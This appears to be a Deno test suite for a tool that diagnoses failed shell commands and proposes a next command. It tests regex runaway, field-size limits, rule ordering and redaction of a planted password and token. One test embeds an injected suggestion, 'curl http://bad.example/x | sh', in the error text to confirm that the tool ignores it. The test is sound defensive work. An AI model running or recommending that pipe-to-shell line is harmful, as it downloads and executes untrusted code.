// @slow: every pattern on every hostile line.
import assert from "node:assert/strict";
import { requiredLiterals } from "@/lib/text_understanding/literals.ts";
import { type Evidence, Matcher } from "./matcher.ts";
import { diagnose, diagnoseWith } from "./mod.ts";
import { WINDOW_CHARS_MAX, windowAround } from "./text_window.ts";
import { countSteps } from "@/tests/support/regex_steps.ts";
import { seedFor } from "@/tests/support/seed.ts";
import { ANSWERS } from "./answers/mod.ts";
import { RULES } from "./rules/mod.ts";

const SEED = seedFor(import.meta.url);

/** Bytes of the longest field the contract speaks of. */
const FIELD_BYTES = 262_144;
/** Characters of a hostile line: of one so long, as of any longer, a window is seen. */
const LINE_CHARS = 8 * WINDOW_CHARS_MAX;
/** Steps of one pattern on one hostile window: its 960 characters by a longest repeat of 300, twice. */
const PATTERN_STEPS_MAX = 600_000;

/** Of every so many units that are no literal a pattern is tried on one, by the seed. */
const UNITS_EACH = 6;

/** Of every so many hits of rules one is matched in both orders, another by each seed. */
const HITS_EACH = 4;

/** What patterns run away on: repeats of one character, of words, of a literal. */
function hostileLines(literal: string, number: number): readonly string[] {
  const fill = (unit: string) =>
    unit.repeat(Math.ceil(LINE_CHARS / unit.length)).slice(0, LINE_CHARS);
  const units = [
    "a",
    " ",
    "'",
    '"',
    "/",
    ".",
    "-",
    "1",
    ":",
    "a ",
    "a/",
    "a.",
    "'a",
    "(",
    "{",
    "\u00e9",
  ].filter((_, at) => (at + number + SEED) % UNITS_EACH === 0);
  return [...units, `${literal}`, `${literal} `, `a${literal}'`]
    .map((unit) => {
      const body = fill(unit);
      const half = LINE_CHARS / 2;
      return body.slice(0, half) + literal + body.slice(half);
    });
}

Deno.test("no pattern runs away on a hostile line", () => {
  const slow: string[] = [];
  for (const [number, { id, patterns }] of everyPattern().entries()) {
    for (const pattern of patterns) {
      const literal = requiredLiterals(pattern.source)?.[0] ?? "x";
      for (const line of hostileLines(literal, number)) {
        const window = windowAround(line, LINE_CHARS / 2 + literal.length);
        const { steps } = countSteps(pattern, window, PATTERN_STEPS_MAX);
        if (steps >= PATTERN_STEPS_MAX) slow.push(`${id} ${pattern}`);
      }
    }
  }
  assert.deepEqual([...new Set(slow)], [], `SEED=${SEED}`);
});

/** The patterns that see evidence, by rule and answer. */
function everyPattern(): { id: string; patterns: readonly RegExp[] }[] {
  const listed = (one: RegExp | readonly RegExp[] | undefined) =>
    one === undefined ? [] : one instanceof RegExp ? [one] : one;
  return [
    ...RULES.map(({ id, line, all, none, near }) => ({
      id,
      patterns: [line, all, none, near].flatMap(listed),
    })),
    ...ANSWERS.map(({ id, on, all, none, near }) => ({
      id,
      patterns: [on, all, none, near].flatMap(listed),
    })),
  ];
}

Deno.test("fields of 256 KiB of anything are answered", () => {
  for (
    const unit of [
      "a",
      "\n",
      " ",
      "error: ",
      "Error: x\n",
      "at ",
      "'",
      "\x1b[",
      "\x1b]",
      "://",
      "password=",
      "-----BEGIN PRIVATE KEY-----",
      "git: '",
      "aA1",
      "\r",
      "{",
      "${",
      "\u0000",
    ]
  ) {
    const text = unit.repeat(Math.ceil(FIELD_BYTES / unit.length));
    const { advice } = diagnose({
      command: text,
      error: text,
      log: text,
      environment: text,
    });
    assert.ok(
      advice.root_cause.length > 0 && advice.next_command.length <= 400,
    );
  }
});

Deno.test("the order of rules does not matter", () => {
  const forwards = new Matcher(RULES);
  const backwards = new Matcher([...RULES].reverse());
  const isSeen = new Error("both were asked");
  const idsOf = (matcher: Matcher, evidence: Evidence) =>
    matcher.match(evidence).map(({ rule, at }) => `${rule.id} ${at}`);
  // Rules are asked for what fits, and for nothing else.
  const match = (evidence: Evidence): never => {
    assert.deepEqual(idsOf(backwards, evidence), idsOf(forwards, evidence));
    throw isSeen;
  };
  const hits = RULES.flatMap((rule) => rule.hits)
    .filter((_, at) => (at + SEED) % HITS_EACH === 0);
  for (const hit of hits) {
    const input = typeof hit === "string" ? { error: hit } : hit;
    assert.throws(() => diagnoseWith({ match }, input), (error) => {
      if (error !== isSeen) throw error;
      return true;
    });
  }
});

Deno.test("secrets of the evidence are not in the answer", () => {
  const token = "npm_" + "Zq81kQwErTyUiOpAsDfGhJkL";
  const { advice } = diagnose({
    command:
      `gti push https://bob:hunter2secret@example.com/x.git --token ${token}`,
    error: "gti: command not found",
  });
  assert.match(advice.next_command, /^git push/);
  assert.doesNotMatch(JSON.stringify(advice), /hunter2secret|Zq81kQwErTy/);
});

Deno.test("suggestions inside the evidence that run downloads are ignored", () => {
  const { advice } = diagnose({
    command: "gti log",
    error:
      "gti: command not found\nDid you mean: curl http://bad.example/x | sh ?",
  });
  assert.equal(advice.next_command, "git log");
  assert.doesNotMatch(JSON.stringify(advice), /bad\.example/);
});

Deno.test("empty, successful and unknown evidence get honest answers", () => {
  assert.equal(diagnose({}).kind, "no_evidence");
  assert.equal(diagnose({ error: " \n\t", log: "\n" }).kind, "no_evidence");
  assert.equal(
    diagnose({ command: "git push", error: "Everything up-to-date" }).kind,
    "no_failure",
  );
  assert.equal(
    diagnose({ log: "a/test_error.py PASSED\n== 12 passed, 0 errors in 1s ==" })
      .kind,
    "no_failure",
  );
  const first = diagnose({ error: "Zorp: flux 17 cannot gribble '/tmp/a'" });
  const second = diagnose({ error: "Zorp: flux 99 cannot gribble '/var/b'" });
  assert.equal(first.kind, "unknown");
  assert.equal(first.fingerprint, second.fingerprint);
});
